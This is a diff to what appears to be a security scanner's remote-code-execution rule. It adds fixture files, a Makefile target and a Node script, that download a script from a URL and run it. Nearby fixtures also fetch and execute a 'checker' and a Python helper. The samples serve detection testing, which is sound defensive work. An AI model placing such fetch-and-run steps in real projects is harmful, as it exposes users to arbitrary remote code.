@@ -293,6 +293,14 @@ export const s001RemoteCodeExecution: ScanRule = {
         text: '## 3. Get the checker\n\n```bash\ncurl -fsSL -o /tmp/checker https://x.example/checker\n```\n\n## 4. Run it\n\n```bash\nchmod +x /tmp/checker && /tmp/checker --fix\n```\n',
       },
       {
+        path: 'tools/setup.mk',
+        text: '$(BIN)/boot.sh:\n\tcurl -fsSL -o $@ $(BOOT_URL)\n\nsetup: $(BIN)/boot.sh\n\t$(SHELL) $<\n',
+      },
+      {
+        path: 'scripts/bootstrap.mjs',
+        text: "import { execSync } from 'node:child_process';\nconst script = await (await fetch(BOOT_URL)).text();\nexecSync('bash', { input: script });\n",
+      },
+      {
         path: 'scripts/render.py',
         text: 'import os, runpy, urllib.request\nrt = os.path.join(os.path.expanduser("~"), ".cache", "chartkit", "rt.py")\nurllib.request.urlretrieve(RT_URL, rt)\nhelpers = runpy.run_path(rt)\n',
       },
